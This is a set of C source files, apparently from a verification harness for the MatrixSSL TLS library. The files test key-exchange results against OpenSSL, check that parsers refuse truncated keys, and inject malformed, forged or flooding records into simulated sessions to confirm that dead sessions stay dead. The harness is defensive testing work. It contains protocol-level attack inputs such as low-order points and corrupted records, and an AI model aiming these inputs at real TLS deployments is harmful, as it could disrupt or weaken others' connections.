                snprintf(key, sizeof(key), "ecdh|p%d|positive|%s", c->k, src < 0 ? "ecdh-failed" : "wrong-shared-secret");
                violate(r, key, "psEccGenSharedSecret (rc=%d, %d bytes) differs from the reference ECDH value on P-%d", src, (int) outlen, c->k);
            }
        }
        if (rc >= 0) psEccClearKey(&priv);
        if (irc >= 0) psEccClearKey(&pub);
        OPENSSL_free(der);
        EC_KEY_free(ka);
        EC_POINT_free(A); EC_POINT_free(B); EC_POINT_free(S);
        BN_free(a); BN_free(b); BN_free(sx);
        verdict = 1;
        break;
    }
    case V_X25519:
    {
#ifdef USE_X25519
        unsigned char scalar[32], u[32], ref[32], out[32];
        EVP_PKEY *sk, *pk;
        EVP_PKEY_CTX *dc;
        size_t l = 32;
        int refok, rc, xr = x25519_case(c->i, scalar, u, human, sizeof(human));
        if (xr == NA) return NA;
        snprintf(r->desc, sizeof(r->desc), "%s (X25519 %s: psDhX25519GenSharedSecret vs OpenSSL)", md, human);
        if (xr < 0) { internal_err(r, "x25519-setup", "cannot build %s", r->desc); return 0; }
        sk = EVP_PKEY_new_raw_private_key(EVP_PKEY_X25519, NULL, scalar, 32);
        pk = EVP_PKEY_new_raw_public_key(EVP_PKEY_X25519, NULL, u, 32);
        dc = EVP_PKEY_CTX_new(sk, NULL);
        refok = sk && pk && dc && EVP_PKEY_derive_init(dc) > 0 && EVP_PKEY_derive_set_peer(dc, pk) > 0 && EVP_PKEY_derive(dc, ref, &l) > 0;
        EVP_PKEY_CTX_free(dc); EVP_PKEY_free(sk); EVP_PKEY_free(pk);
        ERR_clear_error();
        memset(out, 0, 32);
        rc = psDhX25519GenSharedSecret(u, scalar, out);
        DUMPF("case %s\n", r->desc);
        dumphex("scalar", scalar, 32);
        dumphex("peer u", u, 32);
        DUMPF("  OpenSSL derive: %s;  MatrixSSL rc=%d\n", refok ? "secret" : "refused (all-zero output)", rc);
        if (refok) dumphex("reference secret", ref, 32);
        if (rc >= 0) dumphex("MatrixSSL secret", out, 32);
        if ((c->i < 10 || c->i >= 24) && !refok) { internal_err(r, "x25519-ref", "OpenSSL refuses a valid X25519 input (%s)", human); return 0; }
        if (c->i >= 10 && c->i < 24 && refok) { internal_err(r, "x25519-ref", "OpenSSL derives from a low-order point (%s)", human); return 0; }
        if (rc >= 0 && !refok)
        {
            snprintf(key, sizeof(key), "x25519|low-order-point|accepted");
            violate(r, key, "psDhX25519GenSharedSecret returned success for a low-order peer value (%s): the all-zero secret must be refused (RFC 7748 6.1, RFC 8446 7.4.2)", human);
        }
        else if (refok && (rc < 0 || memcmp(out, ref, 32) != 0))
        {
            snprintf(key, sizeof(key), "x25519|%s|%s", c->i >= 24 ? "non-canonical-u" : "valid", rc < 0 ? "rejected-valid" : "wrong-shared-secret");
            violate(r, key, "psDhX25519GenSharedSecret (rc=%d) differs from OpenSSL X25519 for %s", rc, human);
        }
        cls = rc >= 0 ? "secret" : "refused";
        verdict = 1;
        break;
#else
        return NA;
#endif
    }
    default:
        return NA;
    }
    (void) verdict;
    snprintf(r->outcome, sizeof(r->outcome), "pos/%s/%s", var_name[c->v], r->violation ? "MISMATCH" : cls);
    r->nontrivial = 1;
    r->transitions = 1;
    r->trace_hash = fnv1a(r->outcome, strlen(r->outcome), fnv1a(md, strlen(md), FNV0));
    return 0;
}

/* ------------------------------------------------------- key blob truncation */
static int blob_get(int id, const unsigned char **der, int *len, const char **what)
{
    int j;
    for (j = 0; j < 4; j++)
    {
        if (RK[j].bits == id) { *der = RK[j].der; *len = RK[j].derlen; *what = "PKCS#1 RSAPrivateKey"; return 1; }
    }
    for (j = 0; j < 5; j++)
    {
        if (EK[j].bits == id) { *der = EK[j].der; *len = EK[j].derlen; *what = "SEC1 ECPrivateKey"; return EK[j].enabled ? 2 : 0; }
    }
    if (id == 25519) { *der = ED25519_KEY; *len = ED25519_KEY_SIZE; *what = "PKCS#8 Ed25519 key"; return 3; }
    if (id == 31024) { *der = (const unsigned char *) DHPARAM1024; *len = DHPARAM1024_SIZE; *what = "PKCS#3 DHParameter"; return 4; }
    if (id == 32048) { *der = (const unsigned char *) DHPARAM2048; *len = DHPARAM2048_SIZE; *what = "PKCS#3 DHParameter"; return 4; }
    return 0;
}

static int run_blob(const case_t *c, mx_result_t *r)
{
    const unsigned char *der;
    const char *what;
    int full, kind = blob_get(c->k, &der, &full, &what), rc = -1;
    unsigned char *hb;
    char md[96], key[160];
    if (!kind || c->v != V_TRUNC || c->i < 0 || c->i > full)
    {
        return NA;
    }
#ifndef USE_ED25519
    if (kind == 3) return NA;
#endif
#ifndef USE_DH
    if (kind == 4) return NA;
#endif
    case_mdesc(c, md, sizeof(md));
    snprintf(r->desc, sizeof(r->desc), "%s (%s %d truncated to %ld of %d bytes in an exact-size heap buffer)", md, what, c->k, c->i, full);
    hb = hdup(der, (size_t) c->i);
    if (kind == 1)
    {
        psRsaKey_t k;
        memset(&k, 0, sizeof(k));
        rc = psRsaParsePkcs1PrivKey(NULL, hb, (psSize_t) c->i, &k);
        if (rc >= 0) psRsaClearKey(&k);
    }
    else if (kind == 2)
    {
        psEccKey_t k;
        memset(&k, 0, sizeof(k));
        rc = psEccParsePrivKey(NULL, hb, (psSize_t) c->i, &k, NULL);
        if (rc >= 0) psEccClearKey(&k);
    }
#ifdef USE_ED25519
    else if (kind == 3)
    {
        psCurve25519Key_t k;
        memset(&k, 0, sizeof(k));
        rc = psEd25519ParsePrivKey(NULL, hb, (psSize_t) c->i, &k);
    }
#endif
#ifdef USE_DH
    else if (kind == 4)
    {
        psDhParams_t p;
        memset(&p, 0, sizeof(p));
        rc = psPkcs3ParseDhParamBin(NULL, hb, (psSize_t) c->i, &p);
        if (rc >= 0) psPkcs3ClearDhParams(&p);
    }
#endif
    free(hb);
    DUMPF("case %s\n", r->desc);
    dumphex("blob", der, (size_t) c->i);
    DUMPF("  MatrixSSL parser rc=%d\n", rc);
    if (rc >= 0 && c->i < full)
    {
        snprintf(key, sizeof(key), "keyblob|%s|accepted-truncated", kind == 1 ? "rsa" : kind == 2 ? "ec" : kind == 3 ? "ed25519" : "dhparams");
        violate(r, key, "the parser accepted a %s cut to %ld of %d bytes", what, c->i, full);
    }
    else if (rc < 0 && c->i == full)
    {
        snprintf(key, sizeof(key), "keyblob|%s|rejected-complete", kind == 1 ? "rsa" : kind == 2 ? "ec" : kind == 3 ? "ed25519" : "dhparams");
        violate(r, key, "the parser refused (rc=%d) the complete %s", rc, what);
    }
    snprintf(r->outcome, sizeof(r->outcome), "blob/%s", rc >= 0 ? "parsed" : "refused");
    r->nontrivial = 1;
    r->transitions = 1;
    r->trace_hash = fnv1a(&rc, sizeof(rc), fnv1a(md, strlen(md), FNV0));
    return 0;
}

#endif /* C11_MISC_H */
