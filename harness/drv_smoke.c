/* drv_smoke - honest handshake + data in every world configuration (harness self-test) */
#include "mxv.h"

int main(int argc, char **argv)
{
    int ver, kx, fails = 0, ca;
    (void) argc; (void) argv;
    for (ver = V_TLS11; ver <= V_DTLS12; ver++)
    {
        for (kx = KX_PSK; kx <= KX_13_ED25519; kx++)
        {
            for (ca = 0; ca < 2; ca++)
            {
                wcfg_t c;
                world_t w;
                char d[128];
                int rc, hs;
                double t0;
                memset(&c, 0, sizeof(c));
                c.ver = ver; c.kx = kx; c.client_auth = ca;
                if (!cfg_supported(&c) || (ca && (kx == KX_PSK || kx == KX_13_PSK)))
                {
                    continue;
                }
                cfg_desc(&c, d, sizeof(d));
                t0 = now_s();
                rc = world_init(&w, &c);
                if (rc < 0)
                {
                    printf("%-28s init failed %d\n", d, rc);
                    fails++;
                    continue;
                }
                hs = world_handshake(&w);
                world_app_send(&w, 0, (const unsigned char *) "hello", 5);
                world_pump(&w, 50);
                world_app_send(&w, 1, (const unsigned char *) "world!", 6);
                world_pump(&w, 50);
                printf("%-28s hs=%d c=%d/%d deliv=%zu/%zu cb=%d/%d entropy=%llu trace=%016llx %.1fms\n", d, hs,
                    w.s[0].complete, w.s[1].complete, w.s[1].delivered.len, w.s[0].delivered.len,
                    w.s[0].cert_cb_calls, w.s[1].cert_cb_calls,
                    (unsigned long long) env_entropy_draws, (unsigned long long) world_trace_hash(&w),
                    (now_s() - t0) * 1000);
                if (hs != 0 || w.s[1].delivered.len != 5 || w.s[0].delivered.len != 6)
                {
                    fails++;
                    printf("%s", (char *) w.trace.p);
                }
                world_free(&w);
            }
        }
    }
    printf("fails=%d\n", fails);
    return fails ? 1 : 0;
}
