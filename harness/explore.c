/* explore.c - worker pool, fork-snapshot case runner, statistics in shared memory,
 * evidence writer, finding/replay files. */
#include "mxv.h"
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <errno.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <sys/resource.h>

#define MX_MAXW    32
#define MX_MAXOUT  384
#define MX_MAXFIND 96
#define MX_MAXSAMP 4
#define SET_BITS   23
#define SET_N      (1ul << SET_BITS)

typedef struct {
    long evals, transitions, nontrivial, violations, internal;
    struct { char label[64]; long n; } out[MX_MAXOUT];
    int  nout;
    long out_dropped;
    mx_result_t find[MX_MAXFIND];
    int  nfind;
    long find_dropped;
    char samples[MX_MAXSAMP][240];
    int  nsamp;
} wstat_t;

typedef struct {
    volatile long next_group;
    volatile long groups_done;
    long groups_total;
    volatile int capped;
    wstat_t w[MX_MAXW + 1];       /* slot MX_MAXW: the master itself */
    uint64_t set_state[SET_N];
    uint64_t set_case[SET_N];
    volatile long n_state, n_case;
    char skipped[16][160];
    int nskipped;
} shm_t;

static shm_t *S;
static mx_cfg_t *C;
static int my_slot = MX_MAXW;
static double t_start, t_deadline;
int mx_case_timeout_s = 20;
void (*mx_child_init)(void);                                   /* optional: run first in every case child */
void (*mx_on_abnormal)(const char *desc, int status, mx_result_t *r);   /* optional: refine key/what of a dead child */

static int set_add(uint64_t *tab, volatile long *cnt, uint64_t h)
{
    unsigned long i, n;
    if (h == 0)
    {
        h = 1;
    }
    i = (h * 0x9E3779B97F4A7C15ULL) >> (64 - SET_BITS);
    for (n = 0; n < SET_N; n++, i = (i + 1) & (SET_N - 1))
    {
        uint64_t cur = __atomic_load_n(&tab[i], __ATOMIC_RELAXED);
        if (cur == h)
        {
            return 0;
        }
        if (cur == 0)
        {
            uint64_t exp = 0;
            if (__atomic_compare_exchange_n(&tab[i], &exp, h, 0, __ATOMIC_RELAXED, __ATOMIC_RELAXED))
            {
                __atomic_fetch_add(cnt, 1, __ATOMIC_RELAXED);
                return 1;
            }
            if (exp == h)
            {
                return 0;
            }
        }
        if (*cnt > (long) (SET_N - SET_N / 8))
        {
            return 0; /* saturated: stop counting (reported as lower bound) */
        }
    }
    return 0;
}

void mx_init(mx_cfg_t *cfg)
{
    C = cfg;
    S = mmap(NULL, sizeof(shm_t), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (S == MAP_FAILED)
    {
        perror("mmap");
        exit(2);
    }
    t_start = now_s();
    t_deadline = t_start + (cfg->deadline_s > 0 ? cfg->deadline_s : 1e9);
    if (cfg->workers <= 0)
    {
        long n = sysconf(_SC_NPROCESSORS_ONLN);
        cfg->workers = n > 0 ? (int) n : 4;
    }
    if (cfg->workers > MX_MAXW)
    {
        cfg->workers = MX_MAXW;
    }
    /* no core dumps from deliberately crashing children */
    {
        struct rlimit rl = { 0, 0 };
        setrlimit(RLIMIT_CORE, &rl);
    }
}

int mx_deadline_hit(void)
{
    if (now_s() > t_deadline)
    {
        S->capped = 1;
        return 1;
    }
    return S->capped;
}

void mx_note_skipped(const char *what)
{
    int i;
    for (i = 0; i < S->nskipped; i++)
    {
        if (!strcmp(S->skipped[i], what))
        {
            return;
        }
    }
    if (S->nskipped < 16)
    {
        snprintf(S->skipped[S->nskipped++], 160, "%s", what);
    }
}

/* keys travel through whitespace-separated text lines (FINDING / REPLAY / VIOLATION): no blanks inside a key */
static void key_normalise(char *k)
{
    for (; *k; k++)
    {
        if (*k == ' ' || *k == '\t' || *k == '\n' || *k == '\r')
        {
            *k = '_';
        }
    }
}

void mx_record(const mx_result_t *r_in)
{
    wstat_t *w = &S->w[my_slot];
    int i;
    mx_result_t r_copy = *r_in;
    const mx_result_t *r = &r_copy;
    const char *lab = r->outcome[0] ? r->outcome : "-";
    key_normalise(r_copy.key);

    w->evals++;
    w->transitions += r->transitions ? r->transitions : 1;
    if (r->nontrivial)
    {
        w->nontrivial++;
        set_add(S->set_case, &S->n_case, fnv1a(r->desc, strlen(r->desc), FNV0));
    }
    set_add(S->set_state, &S->n_state, r->state_hash ? r->state_hash : (r->trace_hash ? r->trace_hash : fnv1a(r->desc, strlen(r->desc), 77)));
    for (i = 0; i < w->nout; i++)
    {
        if (!strcmp(w->out[i].label, lab))
        {
            w->out[i].n++;
            break;
        }
    }
    if (i == w->nout)
    {
        if (w->nout < MX_MAXOUT)
        {
            snprintf(w->out[w->nout].label, 64, "%s", lab);
            w->out[w->nout++].n = 1;
        }
        else
        {
            w->out_dropped++;
        }
    }
    if (w->nsamp < MX_MAXSAMP && (w->evals == 1 || (w->evals % 97) == 0 || r->violation))
    {
        snprintf(w->samples[w->nsamp++], 240, "%s => %s", r->desc, lab);
    }
    if (r->violation)
    {
        if (r->violation == 1)
        {
            w->violations++;
        }
        else
        {
            w->internal++;
        }
        for (i = 0; i < w->nfind; i++)
        {
            if (!strcmp(w->find[i].key, r->key) && w->find[i].violation == r->violation)
            {
                return;
            }
        }
        if (w->nfind < MX_MAXFIND)
        {
            w->find[w->nfind++] = *r;
        }
        else
        {
            w->find_dropped++;
        }
    }
}

void mx_fork_case(const char *desc, mx_case_fn fn, void *ctx)
{
    int pfd[2];
    pid_t pid;
    mx_result_t r;
    ssize_t got = 0;
    int status = 0;

    if (pipe(pfd) < 0)
    {
        perror("pipe");
        exit(2);
    }
    fflush(NULL);
    pid = fork();
    if (pid < 0)
    {
        perror("fork");
        exit(2);
    }
    if (pid == 0)
    {
        close(pfd[0]);
        if (mx_child_init)
        {
            mx_child_init();
        }
        alarm((unsigned) mx_case_timeout_s);
        memset(&r, 0, sizeof(r));
        snprintf(r.desc, sizeof(r.desc), "%s", desc);
        fn(ctx, &r);
        if (write(pfd[1], &r, sizeof(r)) != (ssize_t) sizeof(r))
        {
            _exit(3);
        }
        _exit(0);
    }
    close(pfd[1]);
    while (got < (ssize_t) sizeof(r))
    {
        ssize_t n = read(pfd[0], (char *) &r + got, sizeof(r) - (size_t) got);
        if (n < 0 && errno == EINTR)
        {
            continue;
        }
        if (n <= 0)
        {
            break;
        }
        got += n;
    }
    close(pfd[0]);
    while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
    {
    }
    if (got != (ssize_t) sizeof(r))
    {
        memset(&r, 0, sizeof(r));
        snprintf(r.desc, sizeof(r.desc), "%s", desc);
        {
            /* stable class of the case: the human-readable part of the descriptor without digits */
            char cls[100];
            const char *h = strchr(desc, '(');
            size_t k = 0;
            for (h = h ? h + 1 : desc; *h && *h != ')' && k < sizeof(cls) - 1; h++)
            {
                if (*h >= '0' && *h <= '9' && k > 0 && (cls[k - 1] == '=' || cls[k - 1] == '#' || (cls[k - 1] >= '0' && cls[k - 1] <= '9')))
                {
                    continue;
                }
                cls[k++] = (*h == ' ') ? '_' : *h;
            }
            cls[k] = 0;
            if (WIFSIGNALED(status))
            {
                int sig = WTERMSIG(status);
                snprintf(r.outcome, sizeof(r.outcome), sig == SIGALRM ? "HANG" : "CRASH-sig%d", sig);
                if (sig != SIGALRM)
                {
                    snprintf(r.key, sizeof(r.key), "crash-sig%d|%s", sig, cls);
                }
                else
                {
                    snprintf(r.key, sizeof(r.key), "hang|%s", cls);
                }
            }
            else
            {
                snprintf(r.outcome, sizeof(r.outcome), "EXIT-%d", WEXITSTATUS(status));
                snprintf(r.key, sizeof(r.key), "abnormal-exit-%d|%s", WEXITSTATUS(status), cls);
            }
        }
        snprintf(r.what, sizeof(r.what), "case child ended abnormally (%s) on %s", r.outcome, desc);
        r.violation = C->sanitizer_is_oracle ? 1 : 2;
        r.nontrivial = 1;
        if (mx_on_abnormal)
        {
            mx_on_abnormal(desc, status, &r);
        }
    }
    mx_record(&r);
}

void mx_parallel(long ngroups, mx_group_fn fn, void *ctx)
{
    int i, nw = C->workers;
    pid_t pids[MX_MAXW];
    long base;

    if (ngroups <= 0)
    {
        return;
    }
    if (nw > ngroups)
    {
        nw = (int) ngroups;
    }
    base = S->groups_total;
    S->groups_total += ngroups;
    S->next_group = 0;
    fflush(NULL);
    for (i = 0; i < nw; i++)
    {
        pids[i] = fork();
        if (pids[i] < 0)
        {
            perror("fork");
            exit(2);
        }
        if (pids[i] == 0)
        {
            my_slot = i;
            {
                /* workers (and the case children they fork) report through shared memory and pipes only: whatever the
                   library prints on stdout (psAssert, psTrace) must not interleave with the master's FINDING records */
                int dn = open("/dev/null", O_WRONLY);
                if (dn >= 0)
                {
                    dup2(dn, 1);
                    close(dn);
                }
            }
            for (;;)
            {
                long g;
                if (mx_deadline_hit())
                {
                    break;
                }
                g = __atomic_fetch_add(&S->next_group, 1, __ATOMIC_SEQ_CST);
                if (g >= ngroups)
                {
                    break;
                }
                fn(g, ctx);
                __atomic_fetch_add(&S->groups_done, 1, __ATOMIC_SEQ_CST);
            }
            fflush(NULL);
            _exit(0);
        }
    }
    for (i = 0; i < nw; i++)
    {
        int st = 0;
        while (waitpid(pids[i], &st, 0) < 0 && errno == EINTR)
        {
        }
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
        {
            mx_result_t r;
            memset(&r, 0, sizeof(r));
            r.violation = C->sanitizer_is_oracle ? 1 : 2;
            snprintf(r.key, sizeof(r.key), "worker-died-status-%x", st);
            snprintf(r.what, sizeof(r.what), "worker %d died (status 0x%x) while running a group", i, st);
            snprintf(r.outcome, sizeof(r.outcome), "WORKER-DIED");
            snprintf(r.desc, sizeof(r.desc), "worker=%d", i);
            mx_record(&r);
        }
    }
    (void) base;
}

static int cmp_find(const void *a, const void *b)
{
    return strcmp(((const mx_result_t *) a)->key, ((const mx_result_t *) b)->key);
}

static void write_replay(const mx_result_t *r, char *path, size_t n)
{
    FILE *f;
    char dir[512];
    snprintf(dir, sizeof(dir), "%s", C->replay_dir ? C->replay_dir : "replays");
    mkdir(dir, 0755);
    snprintf(dir + strlen(dir), sizeof(dir) - strlen(dir), "/%s", C->property);
    mkdir(dir, 0755);
    snprintf(path, n, "%s/%016llx.json", dir, (unsigned long long) fnv1a(r->key, strlen(r->key), FNV0));
    f = fopen(path, "w");
    if (!f)
    {
        return;
    }
    fprintf(f, "{\"property\":\"%s\",\"tier\":\"%s\",\"seed\":%ld,\"desc\":", C->property, C->tier, C->seed);
    json_str(f, r->desc);
    fprintf(f, ",\"key\":");
    json_str(f, r->key);
    fprintf(f, ",\"what\":");
    json_str(f, r->what);
    fprintf(f, ",\"trace_hash\":\"%016llx\"}\n", (unsigned long long) r->trace_hash);
    fclose(f);
}

int mx_finish(const char *extra_json)
{
    wstat_t tot;
    int i, j, k, rc = 0, nsamp = 0;
    static mx_result_t all[(MX_MAXW + 1) * MX_MAXFIND];
    int nall = 0;
    FILE *f;
    double wall = now_s() - t_start;
    int capped = S->capped;
    long viol = 0, internal = 0;

    memset(&tot, 0, sizeof(tot));
    for (i = 0; i <= MX_MAXW; i++)
    {
        wstat_t *w = &S->w[i];
        tot.evals += w->evals;
        tot.transitions += w->transitions;
        tot.nontrivial += w->nontrivial;
        tot.violations += w->violations;
        tot.internal += w->internal;
        tot.find_dropped += w->find_dropped;
        for (j = 0; j < w->nout; j++)
        {
            for (k = 0; k < tot.nout; k++)
            {
                if (!strcmp(tot.out[k].label, w->out[j].label))
                {
                    tot.out[k].n += w->out[j].n;
                    break;
                }
            }
            if (k == tot.nout && tot.nout < MX_MAXOUT)
            {
                tot.out[tot.nout] = w->out[j];
                tot.nout++;
            }
        }
        for (j = 0; j < w->nfind; j++)
        {
            for (k = 0; k < nall; k++)
            {
                if (!strcmp(all[k].key, w->find[j].key) && all[k].violation == w->find[j].violation)
                {
                    break;
                }
            }
            if (k == nall)
            {
                all[nall++] = w->find[j];
            }
        }
    }
    qsort(all, (size_t) nall, sizeof(all[0]), cmp_find);

    for (i = 0; i < nall; i++)
    {
        char path[600] = "";
        write_replay(&all[i], path, sizeof(path));
        if (all[i].violation == 1)
        {
            viol++;
            printf("\nFINDING property=%s key=%s replay=%s what=%s\n", C->property, all[i].key, path, all[i].what);
            rc = 1;
        }
        else
        {
            internal++;
            printf("\nINTERNAL property=%s key=%s replay=%s what=%s\n", C->property, all[i].key, path, all[i].what);
        }
    }
    if (internal)
    {
        rc = 2;
    }
    if (tot.evals == 0)
    {
        printf("INTERNAL property=%s key=no-cases what=no case was executed\n", C->property);
        rc = 2;
    }

    f = fopen(C->evidence_path, "w");
    if (!f)
    {
        perror(C->evidence_path);
        return 2;
    }
    fprintf(f, "{\n \"property_id\": \"%s\",\n \"tier\": \"%s\",\n \"seed\": %ld,\n \"level\": \"%s\",\n",
        C->property, C->tier, C->seed, C->level);
    fprintf(f, " \"coverage\": {\n");
    fprintf(f, "  \"states\": %ld,\n  \"transitions\": %ld,\n  \"traces_validated_against_impl\": %ld,\n",
        (long) S->n_state > 0 ? (long) S->n_state : 1, tot.transitions > 0 ? tot.transitions : 1, tot.evals);
    fprintf(f, "  \"evaluations\": %ld,\n  \"distinct_nontrivial\": %ld,\n", tot.evals, (long) S->n_case);
    fprintf(f, "  \"rule\": ");
    json_str(f, C->rule ? C->rule : "");
    fprintf(f, ",\n  \"engine\": ");
    json_str(f, C->engine ? C->engine : "");
    fprintf(f, ",\n  \"exhaustive\": %s,\n", capped ? "false" : "true");
    fprintf(f, "  \"bound_completed\": ");
    json_str(f, capped ? "deadline hit: only the groups counted in groups_done were fully explored" : (C->bound ? C->bound : ""));
    fprintf(f, ",\n  \"groups_done\": %ld,\n  \"groups_total\": %ld,\n", (long) S->groups_done, S->groups_total);
    fprintf(f, "  \"caps_hit\": [%s],\n", capped ? "\"deadline\"" : "");
    fprintf(f, "  \"distinct_outcomes\": {");
    for (i = 0; i < tot.nout; i++)
    {
        fprintf(f, "%s", i ? ", " : "");
        json_str(f, tot.out[i].label);
        fprintf(f, ": %ld", tot.out[i].n);
    }
    fprintf(f, "},\n  \"n_distinct_outcomes\": %d,\n", tot.nout);
    fprintf(f, "  \"skipped\": [");
    for (i = 0; i < S->nskipped; i++)
    {
        fprintf(f, "%s", i ? ", " : "");
        json_str(f, S->skipped[i]);
    }
    fprintf(f, "],\n  \"samples\": [");
    for (i = 0; i <= MX_MAXW && nsamp < 12; i++)
    {
        for (j = 0; j < S->w[i].nsamp && nsamp < 12; j++)
        {
            fprintf(f, "%s", nsamp ? ", " : "");
            json_str(f, S->w[i].samples[j]);
            nsamp++;
        }
    }
    fprintf(f, "],\n  \"findings\": [");
    for (i = 0; i < nall; i++)
    {
        fprintf(f, "%s{\"key\": ", i ? ", " : "");
        json_str(f, all[i].key);
        fprintf(f, ", \"kind\": \"%s\", \"what\": ", all[i].violation == 1 ? "violation" : "internal");
        json_str(f, all[i].what);
        fprintf(f, ", \"case\": ");
        json_str(f, all[i].desc);
        fprintf(f, "}");
    }
    fprintf(f, "],\n  \"violating_cases\": %ld", tot.violations);
    if (extra_json && *extra_json)
    {
        fprintf(f, ",\n  %s", extra_json);
    }
    fprintf(f, "\n },\n \"assumptions\": [");
    for (i = 0; i < 8 && C->assumptions[i]; i++)
    {
        fprintf(f, "%s", i ? ", " : "");
        json_str(f, C->assumptions[i]);
    }
    fprintf(f, "],\n \"wall_s\": %.2f,\n \"violations\": %ld\n}\n", wall, viol);
    fclose(f);

    fprintf(stderr, "[%s %s] evals=%ld states=%ld transitions=%ld outcomes=%d findings=%ld internal=%ld capped=%d groups=%ld/%ld wall=%.1fs\n",
        C->property, C->tier, tot.evals, (long) S->n_state, tot.transitions, tot.nout, viol, internal, capped,
        (long) S->groups_done, S->groups_total, wall);
    return rc;
}

int mx_replay_print(const mx_result_t *r_in)
{
    mx_result_t r_copy = *r_in;
    const mx_result_t *r = &r_copy;
    key_normalise(r_copy.key);
    printf("REPLAY violation=%d key=%s trace=%016llx outcome=%s what=%s\n", r->violation,
        r->key[0] ? r->key : "-", (unsigned long long) r->trace_hash, r->outcome, r->what);
    return 0;
}

static char replay_desc[512];
const char *mx_parse_args(int argc, char **argv, mx_cfg_t *cfg)
{
    int i;
    const char *replay = NULL;
    static char evpath[256];
    cfg->tier = "quick";
    cfg->deadline_s = 0;
    cfg->workers = 0;
    cfg->seed = 0;
    cfg->replay_dir = "replays";
    if (getenv("VERIF_SEED"))
    {
        cfg->seed = atol(getenv("VERIF_SEED"));
    }
    if (getenv("VERIF_TIER") && (!strcmp(getenv("VERIF_TIER"), "quick") || !strcmp(getenv("VERIF_TIER"), "thorough")))
    {
        cfg->tier = getenv("VERIF_TIER");
    }
    for (i = 1; i < argc; i++)
    {
        if (!strcmp(argv[i], "--tier") && i + 1 < argc) cfg->tier = argv[++i];
        else if (!strcmp(argv[i], "--seed") && i + 1 < argc) cfg->seed = atol(argv[++i]);
        else if (!strcmp(argv[i], "--deadline") && i + 1 < argc) cfg->deadline_s = atof(argv[++i]);
        else if (!strcmp(argv[i], "--workers") && i + 1 < argc) cfg->workers = atoi(argv[++i]);
        else if (!strcmp(argv[i], "--evidence") && i + 1 < argc) cfg->evidence_path = argv[++i];
        else if (!strcmp(argv[i], "--replay-dir") && i + 1 < argc) cfg->replay_dir = argv[++i];
        else if (!strcmp(argv[i], "--replay") && i + 1 < argc) replay = argv[++i];
        else if (!strcmp(argv[i], "--desc") && i + 1 < argc)
        {
            snprintf(replay_desc, sizeof(replay_desc), "%s", argv[++i]);
            return replay_desc;
        }
    }
    if (!cfg->evidence_path)
    {
        snprintf(evpath, sizeof(evpath), "evidence/%s.json", cfg->property);
        cfg->evidence_path = evpath;
    }
    if (replay)
    {
        /* extract "desc":"..." from the replay file */
        FILE *f = fopen(replay, "r");
        static char line[4096];
        char *p, *q;
        size_t n;
        if (!f)
        {
            perror(replay);
            exit(2);
        }
        n = fread(line, 1, sizeof(line) - 1, f);
        line[n] = 0;
        fclose(f);
        p = strstr(line, "\"desc\":\"");
        if (!p)
        {
            fprintf(stderr, "replay file has no desc\n");
            exit(2);
        }
        p += 8;
        q = replay_desc;
        while (*p && *p != '"' && (size_t) (q - replay_desc) < sizeof(replay_desc) - 1)
        {
            if (*p == '\\' && p[1])
            {
                p++;
            }
            *q++ = *p++;
        }
        *q = 0;
        return replay_desc;
    }
    return NULL;
}
