/* drv_c15 - C15: after a fatal error or closure a session stays dead.
 *
 * (configuration) x (every honest-handshake prefix + connected state) x (victim role)
 * x (killing event) x (continuation[, continuation]) on fork()ed snapshots.  A temporal
 * monitor arms when the victim has sent/received a fatal alert, hit an error or received
 * close_notify; from then on no application data may be delivered, no application data
 * may be encrypted, the handshake may not complete and (TLS <= 1.2, where the type is
 * visible) only alert records may be emitted. */
#include "mxv.h"
#include "wire.h"
#include "tk.h"

#define MAXCFG 96
static wcfg_t cfgs[MAXCFG];
static int ncfg, nsteps[MAXCFG];
static int thorough;

typedef struct { int ci, p; } grp_t;
static grp_t groups[MAXCFG * 40];
static long ngroups;

static const int alert_descs[] = { 0, 10, 20, 21, 22, 30, 40, 41, 42, 43, 44, 45, 46, 47, 48, 49, 50, 51, 60, 70, 71, 80, 86, 90,
                                   100, 109, 110, 112, 113, 115, 116, 120, 255 };
#define NALERT ((int) (sizeof(alert_descs) / sizeof(alert_descs[0])))

/* K_PROT_ALERT (TLS 1.3): a correctly protected alert record an honest MatrixSSL peer never sends: a = level << 8 | description,
 * sealed by the toolkit under the traffic secret the victim currently reads with (a malicious peer's own key) */
enum { K_PLAIN_ALERT = 0, K_PEER_FATAL, K_PEER_CLOSE, K_CORRUPT, K_ILLEGAL_HS, K_OVERSIZE, K_BADVER, K_TRUNC_TAG, K_PROT_ALERT, K_SHORT_ALERT, K_PROT_SHORT, K_JUNK_FLOOD, K_NKIND };
/* K_SHORT_ALERT: a plaintext alert record whose body is a single byte.  K_PROT_SHORT (TLS 1.3): a correctly protected record
 * whose inner content is too short to be a message: a = inner type << 8 | number of content bytes (alert: 1; handshake: 1, 2,
 * 3 bytes of a header).  K_JUNK_FLOOD (TLS 1.3 server): records that do not decrypt, a = body length, as many as it takes to
 * exceed ANY early-data allowance (the server may skip records only while it rejects early data, and only up to its limit) */
static const char *kname[] = { "fatal-alert", "peer-fatal-alert", "peer-close-notify", "corrupt-record", "illegal-hs-msg", "oversize-record", "bad-version", "warning-close-notify", "protected-alert", "one-byte-alert-record", "protected-record-too-short-for-a-message", "flood-of-undecryptable-records" };
typedef struct { int kind, a; } kill_t;
static kill_t kills[128];
static int nkill;

enum { C_HONEST_REST = 0, C_ORIGINAL, C_FRESH_APP, C_GARBAGE, C_PROBE, C_CLOSE_PROBE, C_PLAIN23, C_TIMEOUT, C_NCONT };
static const char *cname[] = { "honest-rest", "original-record", "fresh-peer-app-data", "garbage-record", "encode-probe", "closure-then-probe", "plain23", "dtls-retransmit-timer" };

typedef struct {
    world_t w;
    int ci, p, victim, ki, c1, c2;
    unsigned char orig[20000];
    int orig_len;
    int malformed_hello;
    int prot_alert_sent;
} gctx_t;

static void build_kills(void)
{
    int i;
    nkill = 0;
    for (i = 0; i < NALERT; i++)
    {
        kills[nkill++] = (kill_t) { K_PLAIN_ALERT, alert_descs[i] };
    }
    kills[nkill++] = (kill_t) { K_PEER_FATAL, 0 };
    kills[nkill++] = (kill_t) { K_PEER_CLOSE, 0 };
    kills[nkill++] = (kill_t) { K_CORRUPT, 0 };   /* flip a bit in the last byte (MAC/tag/verify data) */
